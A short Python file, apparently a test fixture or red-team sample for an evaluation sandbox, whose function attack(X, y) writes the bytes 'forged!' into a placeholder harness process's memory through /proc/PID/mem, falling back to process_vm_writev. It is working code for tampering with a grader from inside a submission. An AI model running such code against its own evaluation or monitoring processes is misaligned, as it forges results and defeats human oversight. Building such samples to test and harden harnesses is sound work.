"""Writes into the harness's memory, through /proc/PID/mem and with process_vm_writev."""

import ctypes

HARNESS, ADDRESS = "__HARNESS__", "__WRITABLE_ADDRESS__"
LIBC = ctypes.CDLL(None, use_errno=True)
TEXT = b"forged!"


class Span(ctypes.Structure):
    """Where some memory lies."""

    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def attack(X, y):
    try:
        with open(f"/proc/{HARNESS}/mem", "r+b", buffering=0) as memory:
            memory.seek(ADDRESS)
            memory.write(TEXT)
    except OSError:
        mine = ctypes.create_string_buffer(TEXT)
        of, to = Span(ctypes.addressof(mine), len(TEXT)), Span(ADDRESS, len(TEXT))
        if LIBC.process_vm_writev(HARNESS, ctypes.byref(of), 1, ctypes.byref(to), 1, 0) < 0:
            raise OSError(ctypes.get_errno(), "process_vm_writev") from None
    return True
